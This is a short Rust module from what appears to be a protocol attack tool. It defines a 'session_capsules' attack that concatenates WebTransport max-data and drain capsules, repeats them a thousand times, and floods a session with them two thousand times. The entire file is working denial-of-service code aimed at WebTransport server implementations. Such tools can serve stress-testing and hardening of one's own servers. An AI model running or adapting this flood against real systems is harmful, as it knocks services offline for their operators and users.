//! WT_MAX_DATA capsules and drains without end.

use crate::attacker::{Attack, Attacker};
use crate::flood;
use crate::wire;

pub(super) const ATTACK: Attack = Attack::new(
    "session_capsules",
    "flow control capsules in a session",
    run,
);

fn run(a: &mut Attacker) {
    let capsules = [
        wire::frame(0x190b_4d3d, &wire::varint(1 << 20)),
        wire::frame(0x78ae, b""),
    ];
    let capsules = wire::data(&capsules.concat().repeat(1_000));
    flood::session(a, &capsules, 2_000);
}
